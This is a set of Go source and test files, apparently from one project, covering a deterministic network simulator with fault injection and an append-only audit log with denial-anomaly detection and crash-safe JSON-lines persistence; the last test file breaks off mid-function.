	a2 := n2.AddHost("a")
	b2 := n2.AddHost("b")
	n2.Connect(a2, b2, prof)
	b2.Handle(func(p *Packet) {})
	a2.Send(&Packet{Dst: "b", Payload: make([]byte, 960)})
	a2.Send(&Packet{Dst: "b", Payload: make([]byte, 960)})
	n2.Run()
	if got := n2.Now(); got < 2*time.Second {
		t.Fatalf("two serialized packets took %v, want >= 2s", got)
	}
}

func TestLossDropsPackets(t *testing.T) {
	n := New(42)
	a := n.AddHost("a")
	b := n.AddHost("b")
	l := n.Connect(a, b, Profile{Name: "lossy", Latency: time.Millisecond, Loss: 0.5})
	got := 0
	b.Handle(func(p *Packet) { got++ })
	const sent = 200
	for i := 0; i < sent; i++ {
		a.Send(&Packet{Dst: "b", Payload: []byte{1}})
	}
	n.Run()
	if got == 0 || got == sent {
		t.Fatalf("lossy link delivered %d/%d, want some but not all", got, sent)
	}
	if int(l.Dropped)+got != sent {
		t.Fatalf("dropped %d + delivered %d != sent %d", l.Dropped, got, sent)
	}
}

func TestDuplicateHostPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("duplicate host address should panic")
		}
	}()
	n := New(1)
	n.AddHost("x")
	n.AddHost("x")
}

func TestSelfLinkPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("self link should panic")
		}
	}()
	n := New(1)
	a := n.AddHost("x")
	n.Connect(a, a, WiFi)
}

func TestDeterministicRuns(t *testing.T) {
	run := func() (time.Duration, uint64) {
		n := New(99)
		a := n.AddHost("a")
		b := n.AddHost("b")
		n.Connect(a, b, ThreeG)
		b.Handle(func(p *Packet) {})
		for i := 0; i < 50; i++ {
			a.Send(&Packet{Dst: "b", Payload: make([]byte, 100)})
		}
		n.Run()
		pk, _ := n.Stats()
		return n.Now(), pk
	}
	t1, p1 := run()
	t2, p2 := run()
	if t1 != t2 || p1 != p2 {
		t.Fatalf("same seed diverged: (%v,%d) vs (%v,%d)", t1, p1, t2, p2)
	}
}

// Property: virtual time never decreases across any sequence of schedules.
func TestClockMonotonicProperty(t *testing.T) {
	prop := func(delays []uint16) bool {
		n := New(3)
		last := time.Duration(0)
		ok := true
		for _, d := range delays {
			n.Schedule(time.Duration(d)*time.Microsecond, func() {
				if n.Now() < last {
					ok = false
				}
				last = n.Now()
			})
		}
		n.Run()
		return ok
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

// Property: delivery time of a single packet is at least latency plus
// serialization for any payload size.
func TestDeliveryLowerBoundProperty(t *testing.T) {
	prop := func(size uint16) bool {
		n := New(5)
		a := n.AddHost("a")
		b := n.AddHost("b")
		prof := Profile{Latency: 3 * time.Millisecond, Bandwidth: 1e6}
		n.Connect(a, b, prof)
		var at time.Duration = -1
		b.Handle(func(p *Packet) { at = n.Now() })
		pkt := &Packet{Dst: "b", Payload: make([]byte, int(size))}
		ser := time.Duration(float64(pkt.Size()) / prof.Bandwidth * float64(time.Second))
		a.Send(pkt)
		n.Run()
		return at >= prof.Latency+ser
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}
