package netsim

import "time"

// Deterministic fault injection. Faults are plain state flips (a link or
// host going down) driven by the simulation clock through ScheduleAt, so a
// chaos scenario is an ordinary event schedule: the same seed and the same
// fault script replay the exact same packet-level history.

// ScheduleAt runs fn at the absolute virtual time at; a time already in
// the past runs on the next Step. It is Schedule with an absolute instead
// of a relative deadline, which reads better for fault scripts written
// against a scenario timeline.
func (n *Net) ScheduleAt(at time.Duration, fn func()) {
	n.Schedule(at-n.Now(), fn)
}

// SetDown partitions (true) or heals (false) the link. While down, every
// packet handed to the link is counted in Dropped and discarded; packets
// already in flight still arrive (the partition cuts the cable, it does
// not reach into the far end's receive path).
func (l *Link) SetDown(down bool) { l.down = down }

// Down reports whether the link is partitioned.
func (l *Link) Down() bool { return l.down }

// DropNext makes the link silently drop the next k packets (either
// direction), then heal — the classic drop-N-then-heal window for
// exercising retransmission paths without touching the loss rate.
func (l *Link) DropNext(k int) { l.dropNext += k }

// PartitionBetween schedules a partition window on the simulation clock:
// the link goes down at virtual time from and heals at until.
func (l *Link) PartitionBetween(from, until time.Duration) {
	l.net.ScheduleAt(from, func() { l.SetDown(true) })
	l.net.ScheduleAt(until, func() { l.SetDown(false) })
}

// Flap schedules cycles down/up cycles starting at virtual time start:
// down for downFor, then up for upFor, repeated. A flapping cellular link
// is the paper's worst-case mobile environment.
func (l *Link) Flap(start, downFor, upFor time.Duration, cycles int) {
	at := start
	for i := 0; i < cycles; i++ {
		l.PartitionBetween(at, at+downFor)
		at += downFor + upFor
	}
}

// SetDown crashes (true) or restarts (false) the host. A down host is a
// black hole: it sends nothing and silently loses everything addressed to
// it, including packets already in flight when it crashed — exactly a
// powered-off machine. Protocol state above netsim (TCP connections,
// services) is not touched; model a crash that loses state by combining
// Host.SetDown with the owning layer's teardown (e.g. tcpsim.Stack.AbortAll
// on restart).
func (h *Host) SetDown(down bool) { h.down = down }

// Down reports whether the host is crashed.
func (h *Host) Down() bool { return h.down }

// CrashBetween schedules a crash window: the host goes down at virtual
// time from and comes back at until.
func (h *Host) CrashBetween(from, until time.Duration) {
	h.net.ScheduleAt(from, func() { h.SetDown(true) })
	h.net.ScheduleAt(until, func() { h.SetDown(false) })
}
