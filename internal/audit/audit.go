// Package audit implements the trusted node's append-only cor access log
// (§3.4): "Each record includes timestamp, application hash, cor ID and
// network domain. Any abnormal activity will be reported to the user."
package audit

import (
	"fmt"
	"hash/maphash"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// Outcome records whether an access was served.
type Outcome uint8

const (
	// OutcomeAllowed means the access passed policy.
	OutcomeAllowed Outcome = iota
	// OutcomeDenied means policy refused it.
	OutcomeDenied
)

func (o Outcome) String() string {
	if o == OutcomeAllowed {
		return "allowed"
	}
	return "denied"
}

// Entry is one immutable log record.
type Entry struct {
	Seq      uint64
	Time     time.Time
	AppHash  string
	CorID    string
	DeviceID string
	Domain   string
	Outcome  Outcome
	Detail   string
	// DeviceSeq is the per-device sequence number, minted by the device's
	// shard on the trusted node that owned it at append time. Unlike Seq
	// (per-log, per-node) it survives a device moving between nodes: the
	// counter travels with the shard, so interleaving several nodes' logs by
	// DeviceSeq reconstructs one gap-free per-device history. 0 means the
	// entry predates sharding (or was appended without a device).
	DeviceSeq uint64
	// PolicyVersion and PolicyHash stamp the exact policy ruleset the
	// decision was made under (policy.Stamp): during a hot-reload, entries
	// show which checks ran against the old document and which against the
	// new. Zero/empty on entries that predate policy versioning.
	PolicyVersion uint64
	PolicyHash    string
}

// String renders an entry as a single log line.
func (e Entry) String() string {
	s := fmt.Sprintf("#%d %s app=%s cor=%s dev=%s domain=%s %s %s",
		e.Seq, e.Time.Format(time.RFC3339), short(e.AppHash), e.CorID, e.DeviceID, e.Domain, e.Outcome, e.Detail)
	if e.PolicyVersion != 0 || e.PolicyHash != "" {
		s += fmt.Sprintf(" policy=v%d/%s", e.PolicyVersion, e.PolicyHash)
	}
	return s
}

// numShards stripes the log so concurrent appends from many connections
// do not serialize on one mutex. Entries land in the shard of their
// (device, cor) pair, which keeps anomaly detection — a scan over one
// pair's recent denials — local to a single shard.
const numShards = 16

// shard is one lock-striped segment of the log.
type shard struct {
	mu      sync.Mutex
	entries []Entry
}

// Log is the append-only audit trail. It is safe for concurrent use:
// entries are striped across shards by (device, cor), and the global
// monotonic Seq comes from an atomic counter, so appends from different
// pairs never contend on a shared lock.
type Log struct {
	seq    atomic.Uint64
	shards [numShards]shard
	now    func() time.Time

	// subMu guards subscribers; appends take only the read lock.
	subMu sync.RWMutex
	// subscribers receive every appended entry (the "reported to the user"
	// channel).
	subscribers []func(Entry)

	// AnomalyThreshold is the per-(device,cor) denial count within
	// AnomalyWindow that flags an anomaly. Set before concurrent use.
	AnomalyThreshold int
	AnomalyWindow    time.Duration

	anomMu    sync.Mutex
	anomalies []Anomaly
}

// Anomaly is a detected abnormal pattern.
type Anomaly struct {
	Time     time.Time
	DeviceID string
	CorID    string
	Denials  int
	Window   time.Duration
}

func (a Anomaly) String() string {
	return fmt.Sprintf("ANOMALY %s: %d denials for cor %s from device %s within %v",
		a.Time.Format(time.RFC3339), a.Denials, a.CorID, a.DeviceID, a.Window)
}

// NewLog creates a log reading time from now (nil means time.Now).
func NewLog(now func() time.Time) *Log {
	if now == nil {
		now = time.Now
	}
	return &Log{now: now, AnomalyThreshold: 3, AnomalyWindow: time.Hour}
}

// shardSeed keys the shard hash; process-local is fine, the mapping only
// has to be stable for the life of the Log.
var shardSeed = maphash.MakeSeed()

// shardFor picks the shard holding a (device, cor) pair's entries.
func (l *Log) shardFor(deviceID, corID string) *shard {
	var h maphash.Hash
	h.SetSeed(shardSeed)
	h.WriteString(deviceID)
	h.WriteByte(0)
	h.WriteString(corID)
	return &l.shards[h.Sum64()%numShards]
}

// Append records an access.
func (l *Log) Append(appHash, corID, deviceID, domain string, outcome Outcome, detail string) Entry {
	return l.AppendDevice(appHash, corID, deviceID, domain, outcome, detail, 0)
}

// AppendDevice is Append carrying a caller-minted per-device sequence
// number (see Entry.DeviceSeq). The trusted node's shard layer mints the
// number so it stays monotonic for the device across node handoffs.
func (l *Log) AppendDevice(appHash, corID, deviceID, domain string, outcome Outcome, detail string, deviceSeq uint64) Entry {
	return l.AppendEntry(Entry{
		AppHash: appHash, CorID: corID,
		DeviceID: deviceID, Domain: domain, Outcome: outcome, Detail: detail,
		DeviceSeq: deviceSeq,
	})
}

// AppendEntry records a caller-built entry, minting its Seq and Time (any
// caller-supplied values for those two fields are overwritten). It is the
// funnel for appends that carry extra context — e.g. the policy
// version/hash stamp — without growing the positional Append signatures.
func (l *Log) AppendEntry(e Entry) Entry {
	e.Seq = l.seq.Add(1)
	e.Time = l.now()
	sh := l.shardFor(e.DeviceID, e.CorID)
	sh.mu.Lock()
	sh.entries = append(sh.entries, e)
	l.detectAnomalyLocked(sh, e)
	sh.mu.Unlock()

	l.subMu.RLock()
	subs := l.subscribers
	l.subMu.RUnlock()
	for _, s := range subs {
		s(e)
	}
	return e
}

// detectAnomalyLocked flags repeated denials for the same device+cor. The
// caller holds sh.mu; all of the pair's entries live in sh, appended in
// time order, so the backwards scan with an early break is complete.
func (l *Log) detectAnomalyLocked(sh *shard, e Entry) {
	if e.Outcome != OutcomeDenied || l.AnomalyThreshold <= 0 {
		return
	}
	cutoff := e.Time.Add(-l.AnomalyWindow)
	count := 0
	for i := len(sh.entries) - 1; i >= 0; i-- {
		ent := sh.entries[i]
		if ent.Time.Before(cutoff) {
			break
		}
		if ent.Outcome == OutcomeDenied && ent.DeviceID == e.DeviceID && ent.CorID == e.CorID {
			count++
		}
	}
	if count >= l.AnomalyThreshold {
		l.anomMu.Lock()
		l.anomalies = append(l.anomalies, Anomaly{
			Time: e.Time, DeviceID: e.DeviceID, CorID: e.CorID,
			Denials: count, Window: l.AnomalyWindow,
		})
		l.anomMu.Unlock()
	}
}

// Subscribe registers a callback invoked for every appended entry.
func (l *Log) Subscribe(fn func(Entry)) {
	l.subMu.Lock()
	defer l.subMu.Unlock()
	// Copy-on-write so Append can read the slice under the read lock while
	// holding no reference past the call.
	subs := make([]func(Entry), len(l.subscribers), len(l.subscribers)+1)
	copy(subs, l.subscribers)
	l.subscribers = append(subs, fn)
}

// Len returns the number of entries.
func (l *Log) Len() int {
	n := 0
	for i := range l.shards {
		sh := &l.shards[i]
		sh.mu.Lock()
		n += len(sh.entries)
		sh.mu.Unlock()
	}
	return n
}

// Entries returns a copy of all entries in Seq order.
func (l *Log) Entries() []Entry {
	return l.collect(func(Entry) bool { return true })
}

// collect gathers matching entries from every shard, sorted by Seq.
func (l *Log) collect(match func(Entry) bool) []Entry {
	var out []Entry
	for i := range l.shards {
		sh := &l.shards[i]
		sh.mu.Lock()
		for _, e := range sh.entries {
			if match(e) {
				out = append(out, e)
			}
		}
		sh.mu.Unlock()
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Seq < out[j].Seq })
	return out
}

// Query filters entries; zero-valued fields match everything.
type Query struct {
	CorID    string
	DeviceID string
	Outcome  *Outcome
	// Since/Until bound the entry timestamps: Since is inclusive, Until is
	// exclusive, so [Since, Until) windows tile without overlap.
	Since time.Time
	Until time.Time
}

// Find returns entries matching the query in Seq order.
func (l *Log) Find(q Query) []Entry {
	return l.collect(func(e Entry) bool {
		if q.CorID != "" && e.CorID != q.CorID {
			return false
		}
		if q.DeviceID != "" && e.DeviceID != q.DeviceID {
			return false
		}
		if q.Outcome != nil && e.Outcome != *q.Outcome {
			return false
		}
		if !q.Since.IsZero() && e.Time.Before(q.Since) {
			return false
		}
		if !q.Until.IsZero() && !e.Time.Before(q.Until) {
			return false
		}
		return true
	})
}

// Anomalies returns detected anomalies.
func (l *Log) Anomalies() []Anomaly {
	l.anomMu.Lock()
	defer l.anomMu.Unlock()
	return append([]Anomaly(nil), l.anomalies...)
}

// replace swaps in a loaded entry set (persistence restore): entries are
// distributed to their shards and the sequence counter resumes after the
// highest loaded Seq.
func (l *Log) replace(entries []Entry, maxSeq uint64) {
	for i := range l.shards {
		sh := &l.shards[i]
		sh.mu.Lock()
		sh.entries = nil
		sh.mu.Unlock()
	}
	for _, e := range entries {
		sh := l.shardFor(e.DeviceID, e.CorID)
		sh.mu.Lock()
		sh.entries = append(sh.entries, e)
		sh.mu.Unlock()
	}
	l.seq.Store(maxSeq)
}

// Restore swaps in a recovered entry set (e.g. replayed from a durable
// store's snapshot + WAL): entries are redistributed to their shards, the
// sequence counter resumes after the highest restored Seq, and anomaly
// detection is rescanned so the log is indistinguishable from one that
// never crashed.
func (l *Log) Restore(entries []Entry) {
	var maxSeq uint64
	for _, e := range entries {
		if e.Seq > maxSeq {
			maxSeq = e.Seq
		}
	}
	l.replace(entries, maxSeq)
	l.RescanAnomalies()
}

// RescanAnomalies replays anomaly detection over the current entries —
// needed after loading a persisted log, where detection did not run at
// append time.
func (l *Log) RescanAnomalies() {
	l.anomMu.Lock()
	l.anomalies = nil
	l.anomMu.Unlock()
	for i := range l.shards {
		sh := &l.shards[i]
		sh.mu.Lock()
		all := sh.entries
		for j := range all {
			// detectAnomalyLocked scans backwards from the entry, so feed
			// it prefixes in order.
			sh.entries = all[:j+1]
			l.detectAnomalyLocked(sh, all[j])
		}
		sh.entries = all
		sh.mu.Unlock()
	}
}

func short(h string) string {
	if len(h) > 12 {
		return h[:12]
	}
	return h
}
