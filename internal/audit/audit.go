// Package audit implements the trusted node's append-only cor access log
// (§3.4): "Each record includes timestamp, application hash, cor ID and
// network domain. Any abnormal activity will be reported to the user."
package audit

import (
	"fmt"
	"sync"
	"time"
)

// Outcome records whether an access was served.
type Outcome uint8

const (
	// OutcomeAllowed means the access passed policy.
	OutcomeAllowed Outcome = iota
	// OutcomeDenied means policy refused it.
	OutcomeDenied
)

func (o Outcome) String() string {
	if o == OutcomeAllowed {
		return "allowed"
	}
	return "denied"
}

// Entry is one immutable log record.
type Entry struct {
	Seq      uint64
	Time     time.Time
	AppHash  string
	CorID    string
	DeviceID string
	Domain   string
	Outcome  Outcome
	Detail   string
}

// String renders an entry as a single log line.
func (e Entry) String() string {
	return fmt.Sprintf("#%d %s app=%s cor=%s dev=%s domain=%s %s %s",
		e.Seq, e.Time.Format(time.RFC3339), short(e.AppHash), e.CorID, e.DeviceID, e.Domain, e.Outcome, e.Detail)
}

// Log is the append-only audit trail. It is safe for concurrent use.
type Log struct {
	mu      sync.Mutex
	entries []Entry
	seq     uint64
	now     func() time.Time
	// subscribers receive every appended entry (the "reported to the user"
	// channel).
	subscribers []func(Entry)
	// AnomalyThreshold is the per-(device,cor) denial count within
	// AnomalyWindow that flags an anomaly.
	AnomalyThreshold int
	AnomalyWindow    time.Duration
	anomalies        []Anomaly
}

// Anomaly is a detected abnormal pattern.
type Anomaly struct {
	Time     time.Time
	DeviceID string
	CorID    string
	Denials  int
	Window   time.Duration
}

func (a Anomaly) String() string {
	return fmt.Sprintf("ANOMALY %s: %d denials for cor %s from device %s within %v",
		a.Time.Format(time.RFC3339), a.Denials, a.CorID, a.DeviceID, a.Window)
}

// NewLog creates a log reading time from now (nil means time.Now).
func NewLog(now func() time.Time) *Log {
	if now == nil {
		now = time.Now
	}
	return &Log{now: now, AnomalyThreshold: 3, AnomalyWindow: time.Hour}
}

// Append records an access.
func (l *Log) Append(appHash, corID, deviceID, domain string, outcome Outcome, detail string) Entry {
	l.mu.Lock()
	l.seq++
	e := Entry{
		Seq: l.seq, Time: l.now(), AppHash: appHash, CorID: corID,
		DeviceID: deviceID, Domain: domain, Outcome: outcome, Detail: detail,
	}
	l.entries = append(l.entries, e)
	subs := make([]func(Entry), len(l.subscribers))
	copy(subs, l.subscribers)
	l.detectAnomalyLocked(e)
	l.mu.Unlock()
	for _, s := range subs {
		s(e)
	}
	return e
}

// detectAnomalyLocked flags repeated denials for the same device+cor.
func (l *Log) detectAnomalyLocked(e Entry) {
	if e.Outcome != OutcomeDenied || l.AnomalyThreshold <= 0 {
		return
	}
	cutoff := e.Time.Add(-l.AnomalyWindow)
	count := 0
	for i := len(l.entries) - 1; i >= 0; i-- {
		ent := l.entries[i]
		if ent.Time.Before(cutoff) {
			break
		}
		if ent.Outcome == OutcomeDenied && ent.DeviceID == e.DeviceID && ent.CorID == e.CorID {
			count++
		}
	}
	if count >= l.AnomalyThreshold {
		l.anomalies = append(l.anomalies, Anomaly{
			Time: e.Time, DeviceID: e.DeviceID, CorID: e.CorID,
			Denials: count, Window: l.AnomalyWindow,
		})
	}
}

// Subscribe registers a callback invoked for every appended entry.
func (l *Log) Subscribe(fn func(Entry)) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.subscribers = append(l.subscribers, fn)
}

// Len returns the number of entries.
func (l *Log) Len() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return len(l.entries)
}

// Entries returns a copy of all entries.
func (l *Log) Entries() []Entry {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]Entry(nil), l.entries...)
}

// Query filters entries; zero-valued fields match everything.
type Query struct {
	CorID    string
	DeviceID string
	Outcome  *Outcome
	Since    time.Time
}

// Find returns entries matching the query.
func (l *Log) Find(q Query) []Entry {
	l.mu.Lock()
	defer l.mu.Unlock()
	var out []Entry
	for _, e := range l.entries {
		if q.CorID != "" && e.CorID != q.CorID {
			continue
		}
		if q.DeviceID != "" && e.DeviceID != q.DeviceID {
			continue
		}
		if q.Outcome != nil && e.Outcome != *q.Outcome {
			continue
		}
		if !q.Since.IsZero() && e.Time.Before(q.Since) {
			continue
		}
		out = append(out, e)
	}
	return out
}

// Anomalies returns detected anomalies.
func (l *Log) Anomalies() []Anomaly {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]Anomaly(nil), l.anomalies...)
}

func short(h string) string {
	if len(h) > 12 {
		return h[:12]
	}
	return h
}
