package audit

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"time"
)

// wireEntry is the JSON-lines form of an Entry.
type wireEntry struct {
	Seq      uint64    `json:"seq"`
	Time     time.Time `json:"time"`
	AppHash  string    `json:"app_hash"`
	CorID    string    `json:"cor_id"`
	DeviceID string    `json:"device_id"`
	Domain   string    `json:"domain"`
	Outcome  uint8     `json:"outcome"`
	Detail   string    `json:"detail,omitempty"`
	// DeviceSeq is the per-device sequence (Entry.DeviceSeq); omitted for
	// pre-sharding logs, which load back as DeviceSeq 0.
	DeviceSeq uint64 `json:"device_seq,omitempty"`
}

// WireJSON returns the entry's JSON-lines (persistence) form — the same
// encoding WriteTo streams, for tools that emit filtered subsets.
func (e Entry) WireJSON() ([]byte, error) {
	return json.Marshal(wireEntry{
		Seq: e.Seq, Time: e.Time, AppHash: e.AppHash, CorID: e.CorID,
		DeviceID: e.DeviceID, Domain: e.Domain, Outcome: uint8(e.Outcome), Detail: e.Detail,
		DeviceSeq: e.DeviceSeq,
	})
}

// WriteTo streams the log as JSON lines (one entry per line) — the durable
// form the trusted node keeps for §3.4's "logged for auditing".
func (l *Log) WriteTo(w io.Writer) (int64, error) {
	bw := bufio.NewWriter(w)
	var n int64
	enc := json.NewEncoder(bw)
	for _, e := range l.Entries() {
		we := wireEntry{
			Seq: e.Seq, Time: e.Time, AppHash: e.AppHash, CorID: e.CorID,
			DeviceID: e.DeviceID, Domain: e.Domain, Outcome: uint8(e.Outcome), Detail: e.Detail,
			DeviceSeq: e.DeviceSeq,
		}
		if err := enc.Encode(&we); err != nil {
			return n, err
		}
	}
	if err := bw.Flush(); err != nil {
		return n, err
	}
	return n, nil
}

// ReadFrom replaces the log's entries with the JSON-lines stream from r.
// The sequence counter resumes after the highest loaded sequence.
func (l *Log) ReadFrom(r io.Reader) (int64, error) {
	dec := json.NewDecoder(bufio.NewReader(r))
	var entries []Entry
	var maxSeq uint64
	for {
		var we wireEntry
		if err := dec.Decode(&we); err == io.EOF {
			break
		} else if err != nil {
			return 0, fmt.Errorf("audit: loading entry %d: %v", len(entries), err)
		}
		if we.Outcome > uint8(OutcomeDenied) {
			return 0, fmt.Errorf("audit: entry %d has invalid outcome %d", we.Seq, we.Outcome)
		}
		entries = append(entries, Entry{
			Seq: we.Seq, Time: we.Time, AppHash: we.AppHash, CorID: we.CorID,
			DeviceID: we.DeviceID, Domain: we.Domain, Outcome: Outcome(we.Outcome), Detail: we.Detail,
			DeviceSeq: we.DeviceSeq,
		})
		if we.Seq > maxSeq {
			maxSeq = we.Seq
		}
	}
	l.replace(entries, maxSeq)
	l.RescanAnomalies()
	return int64(len(entries)), nil
}

// SaveFile persists the log to path (atomically via a temp file).
func (l *Log) SaveFile(path string) error {
	tmp := path + ".tmp"
	f, err := os.Create(tmp)
	if err != nil {
		return err
	}
	if _, err := l.WriteTo(f); err != nil {
		f.Close()
		os.Remove(tmp)
		return err
	}
	if err := f.Close(); err != nil {
		os.Remove(tmp)
		return err
	}
	return os.Rename(tmp, path)
}

// LoadFile restores the log from path; a missing file leaves the log empty
// and is not an error (first boot).
func (l *Log) LoadFile(path string) error {
	f, err := os.Open(path)
	if os.IsNotExist(err) {
		return nil
	}
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = l.ReadFrom(f)
	return err
}
