package audit

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	iofs "io/fs"
	"os"
	"path/filepath"
	"time"

	"tinman/internal/fault"
)

// wireEntry is the JSON-lines form of an Entry.
type wireEntry struct {
	Seq      uint64    `json:"seq"`
	Time     time.Time `json:"time"`
	AppHash  string    `json:"app_hash"`
	CorID    string    `json:"cor_id"`
	DeviceID string    `json:"device_id"`
	Domain   string    `json:"domain"`
	Outcome  uint8     `json:"outcome"`
	Detail   string    `json:"detail,omitempty"`
	// DeviceSeq is the per-device sequence (Entry.DeviceSeq); omitted for
	// pre-sharding logs, which load back as DeviceSeq 0.
	DeviceSeq uint64 `json:"device_seq,omitempty"`
}

// WireJSON returns the entry's JSON-lines (persistence) form — the same
// encoding WriteTo streams, for tools that emit filtered subsets.
func (e Entry) WireJSON() ([]byte, error) {
	return json.Marshal(wireEntry{
		Seq: e.Seq, Time: e.Time, AppHash: e.AppHash, CorID: e.CorID,
		DeviceID: e.DeviceID, Domain: e.Domain, Outcome: uint8(e.Outcome), Detail: e.Detail,
		DeviceSeq: e.DeviceSeq,
	})
}

// WriteTo streams the log as JSON lines (one entry per line) — the durable
// form the trusted node keeps for §3.4's "logged for auditing".
func (l *Log) WriteTo(w io.Writer) (int64, error) {
	bw := bufio.NewWriter(w)
	var n int64
	enc := json.NewEncoder(bw)
	for _, e := range l.Entries() {
		we := wireEntry{
			Seq: e.Seq, Time: e.Time, AppHash: e.AppHash, CorID: e.CorID,
			DeviceID: e.DeviceID, Domain: e.Domain, Outcome: uint8(e.Outcome), Detail: e.Detail,
			DeviceSeq: e.DeviceSeq,
		}
		if err := enc.Encode(&we); err != nil {
			return n, err
		}
	}
	if err := bw.Flush(); err != nil {
		return n, err
	}
	return n, nil
}

// ReadFrom replaces the log's entries with the JSON-lines stream from r.
// The sequence counter resumes after the highest loaded sequence.
func (l *Log) ReadFrom(r io.Reader) (int64, error) {
	dec := json.NewDecoder(bufio.NewReader(r))
	var entries []Entry
	var maxSeq uint64
	for {
		var we wireEntry
		if err := dec.Decode(&we); err == io.EOF {
			break
		} else if err != nil {
			return 0, fmt.Errorf("audit: loading entry %d: %v", len(entries), err)
		}
		if we.Outcome > uint8(OutcomeDenied) {
			return 0, fmt.Errorf("audit: entry %d has invalid outcome %d", we.Seq, we.Outcome)
		}
		entries = append(entries, Entry{
			Seq: we.Seq, Time: we.Time, AppHash: we.AppHash, CorID: we.CorID,
			DeviceID: we.DeviceID, Domain: we.Domain, Outcome: Outcome(we.Outcome), Detail: we.Detail,
			DeviceSeq: we.DeviceSeq,
		})
		if we.Seq > maxSeq {
			maxSeq = we.Seq
		}
	}
	l.replace(entries, maxSeq)
	l.RescanAnomalies()
	return int64(len(entries)), nil
}

// SaveFile persists the log to path (atomically via a temp file). The temp
// file is fsynced before the rename and the parent directory after it, so a
// crash at any point leaves either the old log or the complete new one —
// never a truncated file under the final name.
func (l *Log) SaveFile(path string) error {
	return l.SaveFileFS(fault.OS, path)
}

// SaveFileFS is SaveFile through an explicit filesystem — the crash
// simulator in tests, the real OS in production.
func (l *Log) SaveFileFS(fsys fault.FS, path string) error {
	var buf bytes.Buffer
	if _, err := l.WriteTo(&buf); err != nil {
		return err
	}
	tmp := path + ".tmp"
	f, err := fsys.OpenFile(tmp, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o600)
	if err != nil {
		return err
	}
	if _, err := f.Write(buf.Bytes()); err != nil {
		f.Close()
		fsys.Remove(tmp)
		return err
	}
	// Content must be durable before the rename publishes the name: a
	// rename-then-crash with an unsynced temp file leaves an empty or torn
	// log under the final path (the pre-fix SaveFile bug).
	if err := f.Sync(); err != nil {
		f.Close()
		fsys.Remove(tmp)
		return err
	}
	if err := f.Close(); err != nil {
		fsys.Remove(tmp)
		return err
	}
	if err := fsys.Rename(tmp, path); err != nil {
		fsys.Remove(tmp)
		return err
	}
	// And the rename itself is only durable once the directory is synced.
	return fsys.SyncDir(filepath.Dir(path))
}

// LoadFile restores the log from path; a missing file leaves the log empty
// and is not an error (first boot).
func (l *Log) LoadFile(path string) error {
	f, err := os.Open(path)
	if os.IsNotExist(err) {
		return nil
	}
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = l.ReadFrom(f)
	return err
}

// LoadFileFS is LoadFile through an explicit filesystem.
func (l *Log) LoadFileFS(fsys fault.FS, path string) error {
	blob, err := fsys.ReadFile(path)
	if err != nil {
		if errors.Is(err, iofs.ErrNotExist) {
			return nil
		}
		return err
	}
	_, err = l.ReadFrom(bytes.NewReader(blob))
	return err
}
