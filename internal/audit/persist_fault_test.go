package audit

import (
	"reflect"
	"testing"
	"time"

	"tinman/internal/fault"
)

// buildLog returns a log with n deterministic entries.
func buildPersistLog(n int) *Log {
	clock := time.Unix(0, 0)
	l := NewLog(func() time.Time { clock = clock.Add(time.Second); return clock })
	for i := 0; i < n; i++ {
		out := OutcomeAllowed
		if i%4 == 0 {
			out = OutcomeDenied
		}
		l.Append("hash", "cor-1", "dev-1", "example.com", out, "d")
	}
	return l
}

// TestFaultFSSaveFileDurability is the regression test for the SaveFile
// durability hole: before the fix, SaveFile renamed the temp file into
// place without fsyncing it (or the directory), so a crash right after
// the rename became durable could leave a torn or empty log under the
// final name. The fixed sequence (write → fsync file → rename → fsync
// dir) must leave, at every possible crash point, either the old log, the
// complete new log, or nothing — never a torn file.
func TestFaultFSSaveFileDurability(t *testing.T) {
	oldLog := buildPersistLog(3)
	newLog := buildPersistLog(9)

	for crashAt := 0; ; crashAt++ {
		fs := fault.NewCrashFS(31)
		// Seed the directory with a durable old log.
		if err := oldLog.SaveFileFS(fs, "audit.log"); err != nil {
			t.Fatal(err)
		}
		fs.CrashAfter(crashAt)
		err := newLog.SaveFileFS(fs, "audit.log")
		if !fs.Crashed() {
			if err != nil {
				t.Fatalf("crashAt=%d: save failed without crash: %v", crashAt, err)
			}
			break // swept past the whole save
		}
		fs.Restart()

		got := NewLog(nil)
		if err := got.LoadFileFS(fs, "audit.log"); err != nil {
			t.Fatalf("crashAt=%d: post-crash log unreadable (torn write published): %v", crashAt, err)
		}
		switch got.Len() {
		case oldLog.Len(), newLog.Len():
			// Old or new — both complete states are acceptable.
		default:
			t.Fatalf("crashAt=%d: post-crash log has %d entries (want %d or %d)",
				crashAt, got.Len(), oldLog.Len(), newLog.Len())
		}
	}
}

// TestFaultFSSaveLoadRoundTrip pins SaveFileFS/LoadFileFS against the
// regular in-memory path.
func TestFaultFSSaveLoadRoundTrip(t *testing.T) {
	fs := fault.NewCrashFS(1)
	l := buildPersistLog(12)
	if err := l.SaveFileFS(fs, "audit.log"); err != nil {
		t.Fatal(err)
	}
	got := NewLog(nil)
	if err := got.LoadFileFS(fs, "audit.log"); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(wireForms(t, l.Entries()), wireForms(t, got.Entries())) {
		t.Fatal("round trip diverged")
	}
	wantAnoms, gotAnoms := l.Anomalies(), got.Anomalies()
	if len(wantAnoms) == 0 {
		t.Fatal("no anomalies; comparison is vacuous")
	}
	if len(wantAnoms) != len(gotAnoms) {
		t.Fatalf("anomaly rescan diverged: %d vs %d", len(wantAnoms), len(gotAnoms))
	}
	for i := range wantAnoms {
		w, g := wantAnoms[i], gotAnoms[i]
		if !w.Time.Equal(g.Time) || w.DeviceID != g.DeviceID || w.CorID != g.CorID ||
			w.Denials != g.Denials || w.Window != g.Window {
			t.Fatalf("anomaly %d diverged: %+v vs %+v", i, w, g)
		}
